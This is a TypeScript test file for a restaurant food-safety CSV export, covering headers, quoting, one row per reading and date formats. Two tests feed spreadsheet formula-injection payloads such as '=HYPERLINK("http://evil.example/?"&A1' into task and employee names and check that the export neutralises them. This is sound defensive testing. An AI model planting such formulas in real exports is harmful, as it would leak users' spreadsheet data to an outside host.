import type { HistoryTask } from '@mise/shared/history/schemas';
import { buildHistoryTask, taskElement as element } from '@mise/shared/history/test-support';
import type { TaskModule } from '@mise/shared/tasks/constants';
import { describe, expect, it } from 'vitest';
import type { TasksExportInput } from '../../platform/pdf/tasks';
import { csvColumns, renderTasksCsv } from './history-csv';

const buildTask = (module: TaskModule, values: Partial<HistoryTask> = {}) =>
  buildHistoryTask(module, { employee: { name: 'Zofia', surname: 'Wójcik' }, ...values });

const fridge = element('fridge', 'Frigo 1', { minimum_temperature: 0, maximum_temperature: 4 });
const reading = (values: Record<string, unknown>) => ({
  element: 'fridge',
  first_temperature: null,
  temperature: null,
  control_temperature: null,
  comment: '',
  pictures: [],
  timestamp: 1_795_000_000,
  ...values,
});
const picture = (path: string) => ({ path, timestamp: 1_795_000_000 });

function exportOf(
  sections: TasksExportInput['sections'],
  lang: TasksExportInput['lang'] = 'fr',
): TasksExportInput {
  return {
    store: { name: 'Bistro Łódź', timezone_name: 'Europe/Paris' },
    start: '2026-11-01',
    end: '2026-11-30',
    filter: 'all',
    generatedAt: new Date('2026-11-30T17:45:00Z'),
    lang,
    sections,
  };
}

/** A small RFC 4180 reader (';' separated) to read the export back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let index = 0;
  let isQuoted = false;
  while (index < text.length) {
    const character = text[index]!;
    if (isQuoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 2;
        continue;
      }
      if (character === '"') isQuoted = false;
      else field += character;
      index += 1;
      continue;
    }
    if (character === '"') isQuoted = true;
    else if (character === ';') {
      row.push(field);
      field = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      index += 1;
    } else field += character;
    index += 1;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** The rows as records keyed by column, without the byte order mark and the header. */
function recordsOf(csv: string) {
  const [, ...rows] = parseCsv(csv.slice(1));
  return rows.map((row) =>
    Object.fromEntries(csvColumns.map((column, index) => [column, row[index]])),
  );
}

/** The probe records' columns (issue 15), last, and a task row's empty cells under them. */
const FRENCH_PROBE_HEADERS =
  ";Sonde;Alerte;Fin de l'alerte;Minimum (°C);Maximum (°C);Pire valeur (°C ou batterie %);" +
  'Escalade atteinte;Acquittée le;Acquittée par;Action corrective;Relevé minimum (°C);' +
  'Relevé maximum (°C);Relevés';
const NO_PROBE_CELLS = ';'.repeat(13);

describe('renderTasksCsv', () => {
  it('writes the header line of each language', () => {
    const french = renderTasksCsv(exportOf([]));
    expect(french).toBe(
      '\uFEFFÉtablissement;Module;Date;Heure;Fin prévue;Réalisée le;Tâche;Employé;Statut;Anomalie;' +
        'Élément/Action;Heure du relevé;Première température (°C);Température (°C);Température de contrôle (°C);Commentaire;' +
        'Effectuée;Nettoyé;Huile changée;Huile filtrée;Filtre changé;Polarité (%);Mode;Cible (°C);' +
        'Température de début (°C);Heure de début;Température de fin (°C);Heure de fin;Durée (s);' +
        'Photos' +
        FRENCH_PROBE_HEADERS +
        '\r\n',
    );
    const english = renderTasksCsv(exportOf([], 'en'));
    expect(english).toBe(
      '\uFEFFStore;Module;Date;Time;Scheduled end;Completed at;Task;Employee;Status;Anomaly;' +
        'Element/Action;Reading time;First temperature (°C);Temperature (°C);Control temperature (°C);Comment;Done;Cleaned;' +
        'Oil changed;Oil filtered;Filter changed;Polarity (%);Mode;Target (°C);' +
        'Start temperature (°C);Start time;End temperature (°C);End time;Duration (s);Pictures;' +
        'Probe;Alert;Alert end;Minimum (°C);Maximum (°C);Worst value (°C or battery %);' +
        'Escalation reached;Acknowledged at;Acknowledged by;Corrective action;Lowest (°C);' +
        'Highest (°C);Readings\r\n',
    );
    for (const lang of ['de', 'pl'] as const) {
      const [header] = parseCsv(renderTasksCsv(exportOf([], lang)).slice(1));
      expect(header).toHaveLength(csvColumns.length);
      expect(new Set(header).size).toBe(csvColumns.length);
    }
    expect(parseCsv(renderTasksCsv(exportOf([], 'de')).slice(1))[0]![0]).toBe('Filiale');
    expect(parseCsv(renderTasksCsv(exportOf([], 'pl')).slice(1))[0]![10]).toBe('Element/Czynność');
  });

  it('matches byte for byte on a small case: BOM, ";", CRLF, dot decimals, empty cells', () => {
    const csv = renderTasksCsv(
      exportOf([
        {
          module: 'temperatures',
          items: [
            buildTask('temperatures', {
              name: 'Relevé frigo',
              elements: [fridge],
              is_anomaly: true,
              anomalies: ['temperature-not-taken'],
              result: {
                entries: [
                  reading({
                    first_temperature: 4,
                    temperature: 3.5,
                    comment: 'RAS',
                    pictures: [picture('a.jpg')],
                  }),
                  reading({ temperature: null }),
                ],
              },
            }),
          ],
        },
        { module: 'oils', items: [] },
        {
          module: 'temperature_control',
          items: [
            buildTask('temperature_control', {
              name: 'Refroidissement',
              start: '2026-11-22T12:30:00Z',
              status: 'late',
              completed_timestamp: null,
              completed_employee: null,
              employee: null,
              is_anomaly: true,
              anomalies: ['late'],
            }),
          ],
        },
      ]),
    );
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv).toBe(
      '\uFEFF' +
        'Établissement;Module;Date;Heure;Fin prévue;Réalisée le;Tâche;Employé;Statut;Anomalie;' +
        'Élément/Action;Heure du relevé;Première température (°C);Température (°C);Température de contrôle (°C);Commentaire;' +
        'Effectuée;Nettoyé;Huile changée;Huile filtrée;Filtre changé;Polarité (%);Mode;Cible (°C);' +
        'Température de début (°C);Heure de début;Température de fin (°C);Heure de fin;Durée (s);' +
        'Photos' +
        FRENCH_PROBE_HEADERS +
        '\r\n' +
        'Bistro Łódź;Températures;22/11/2026;08:00;09:00;22/11/2026 08:20;Relevé frigo;' +
        'Zofia Wójcik;Effectuée;Température non prise;Frigo 1;18/11/2026 12:06;4;3.5;;RAS;' +
        ';;;;;;;;;;;;;1' +
        NO_PROBE_CELLS +
        '\r\n' +
        'Bistro Łódź;Températures;22/11/2026;08:00;09:00;22/11/2026 08:20;Relevé frigo;' +
        'Zofia Wójcik;Effectuée;Température non prise;Frigo 1;18/11/2026 12:06;;;;;' +
        ';;;;;;;;;;;;;0' +
        NO_PROBE_CELLS +
        '\r\n' +
        'Bistro Łódź;Contrôle de température;22/11/2026;13:30;14:30;;Refroidissement;;' +
        'En retard;En retard;;;;;;;;;;;;;;;;;;;;' +
        NO_PROBE_CELLS +
        '\r\n',
    );
  });

  it('quotes a comment holding ";", quotes and a line break (RFC 4180)', () => {
    const comment = 'Porte "ouverte"; vérifier\ndemain';
    const csv = renderTasksCsv(
      exportOf([
        {
          module: 'temperatures',
          items: [
            buildTask('temperatures', {
              name: 'Relevé; matin',
              elements: [fridge],
              result: { entries: [reading({ temperature: 2, comment })] },
            }),
          ],
        },
      ]),
    );
    expect(csv).toContain(';"Porte ""ouverte""; vérifier\ndemain";');
    expect(csv).toContain(';"Relevé; matin";');
    const [record] = recordsOf(csv);
    expect(record!.comment).toBe(comment);
    expect(record!.task).toBe('Relevé; matin');
    expect(record!.temperature).toBe('2');
  });

  it('writes one row per result entry, repeating the task’s columns', () => {
    const elements = [fridge, element('freezer', 'Congélateur'), element('cold', 'Chambre froide')];
    const csv = renderTasksCsv(
      exportOf([
        {
          module: 'temperatures',
          items: [
            buildTask('temperatures', {
              name: 'Relevé du matin',
              elements,
              result: {
                entries: [
                  reading({ element: 'fridge', temperature: 3 }),
                  reading({ element: 'freezer', temperature: -18.5 }),
                  reading({ element: 'cold', temperature: null }),
                ],
              },
            }),
            buildTask('temperatures', {
              name: 'Relevé du soir',
              start: '2026-11-23T16:30:00Z',
              status: 'postponed',
              completed_timestamp: null,
              employee: { name: 'Jean', surname: 'Dupont' },
              postponed_to: { start: '2026-11-24T07:00:00Z', end: '2026-11-24T09:00:00Z' },
            }),
          ],
        },
      ]),
    );
    const records = recordsOf(csv);
    expect(records).toHaveLength(4);
    expect(records.map((record) => [record.task, record.element, record.temperature])).toEqual([
      ['Relevé du matin', 'Frigo 1', '3'],
      ['Relevé du matin', 'Congélateur', '-18.5'],
      // A reading not taken: an empty cell.
      ['Relevé du matin', 'Chambre froide', ''],
      // A task without a result: one row, result columns empty.
      ['Relevé du soir', '', ''],
    ]);
    expect(records[3]).toMatchObject({
      date: '23/11/2026',
      time: '17:30',
      employee: 'Jean Dupont',
      status: 'Reportée au 24/11/2026 08:00 – 10:00',
      pictures: '',
    });
    expect(csv.split('\r\n')).toHaveLength(6);
  });

  it('writes each module’s values: oils, actions, traceability, temperature control', () => {
    const csv = renderTasksCsv(
      exportOf(
        [
          {
            module: 'oils',
            items: [
              buildTask('oils', {
                name: 'Huiles',
                elements: [element('fryer', 'Friteuse', { maximum_polarity: 24 })],
                result: {
                  entries: [
                    {
                      element: 'fryer',
                      cleaned: true,
                      oil_changed: false,
                      oil_filtered: true,
                      filter_changed: false,
                      polarity: 18.5,
                      temperature: null,
                      pictures: [picture('oil.jpg'), picture('oil2.jpg')],
                    },
                  ],
                },
              }),
            ],
          },
          {
            module: 'actions',
            items: [
              buildTask('actions', {
                name: 'Nettoyage',
                result: {
                  entries: [
                    {
                      index: 0,
                      action: 'Désinfecter',
                      done: false,
                      requires_picture: true,
                      picture: null,
                    },
                  ],
                },
              }),
            ],
          },
          {
            module: 'traceability',
            items: [
              buildTask('traceability', {
                name: 'Traçabilité',
                elements: [element('beef', 'Bœuf haché')],
                result: { entries: [{ element: 'beef', pictures: [picture('1.jpg')] }] },
              }),
            ],
          },
          {
            module: 'temperature_control',
            items: [
              buildTask('temperature_control', {
                name: 'Refroidissement',
                elements: [element('chicken', 'Poulet rôti')],
                is_anomaly: true,
                anomalies: ['temperature-control-failed'],
                result: {
                  entries: [
                    {
                      element: 'chicken',
                      mode: 'cooling',
                      target_temperature: 10,
                      start_temperature: 63.2,
                      // 22/11/2026 08:00 and 08:00:30 in Paris: shown as one minute.
                      start_timestamp: Date.UTC(2026, 10, 22, 7, 0) / 1000,
                      end_temperature: 12,
                      end_timestamp: Date.UTC(2026, 10, 22, 7, 0, 30) / 1000,
                      comment: '',
                    },
                  ],
                },
              }),
            ],
          },
        ],
        'en',
      ),
    );
    const [oil, action, traceability, control] = recordsOf(csv);
    expect(oil).toMatchObject({
      module: 'Oils',
      element: 'Friteuse',
      cleaned: 'Yes',
      oil_changed: 'No',
      oil_filtered: 'Yes',
      filter_changed: 'No',
      polarity: '18.5',
      temperature: '',
      pictures: '2',
    });
    expect(action).toMatchObject({ element: 'Désinfecter', done: 'No', pictures: '0' });
    expect(traceability).toMatchObject({ element: 'Bœuf haché', pictures: '1' });
    expect(control).toMatchObject({
      module: 'Temperature control',
      anomaly: 'Temperature control failed',
      element: 'Poulet rôti',
      mode: 'Cooling',
      target_temperature: '10',
      start_temperature: '63.2',
      start_time: '22/11/2026 08:00',
      end_temperature: '12',
      end_time: '22/11/2026 08:00',
      duration_seconds: '60',
      pictures: '',
    });
  });

  it('keeps text typed by people from running as a spreadsheet formula', () => {
    const csv = renderTasksCsv(
      exportOf([
        {
          module: 'temperatures',
          items: [
            buildTask('temperatures', {
              name: '=HYPERLINK("http://evil.example")',
              elements: [fridge],
              result: { entries: [reading({ temperature: -2, comment: '@SUM(A1)' })] },
            }),
          ],
        },
      ]),
    );
    const [record] = recordsOf(csv);
    expect(record!.task).toBe('\'=HYPERLINK("http://evil.example")');
    expect(record!.comment).toBe("'@SUM(A1)");
    // Numbers are never prefixed.
    expect(record!.temperature).toBe('-2');
  });

  it('writes a store or an employee named like a formula as text (one guarded writer)', () => {
    const task = buildTask('traceability', {
      employee: { name: '=HYPERLINK("http://evil.example/?"&A1', surname: '"x")' },
    });
    const input = exportOf([{ module: 'traceability', items: [task] }]);
    input.store.name = '+Bistro';
    const [record] = recordsOf(renderTasksCsv(input));
    expect(record!.employee).toBe('\'=HYPERLINK("http://evil.example/?"&A1 "x")');
    expect(record!.store).toBe("'+Bistro");
  });

  it('tells when each task was scheduled and completed, and when each reading was taken', () => {
    const task = buildTask('temperatures', {
      start: '2026-11-22T07:00:00Z',
      duration: 90,
      completed_timestamp: '2026-11-22T09:12:00Z',
      elements: [fridge],
      result: {
        entries: [reading({ temperature: 3, timestamp: Date.UTC(2026, 10, 22, 9, 5) / 1000 })],
      },
    });
    const [record] = recordsOf(
      renderTasksCsv(exportOf([{ module: 'temperatures', items: [task] }])),
    );
    expect(record).toMatchObject({
      date: '22/11/2026',
      time: '08:00',
      scheduled_end: '09:30',
      completed_at: '22/11/2026 10:12',
      reading_time: '22/11/2026 10:05',
    });
  });
});
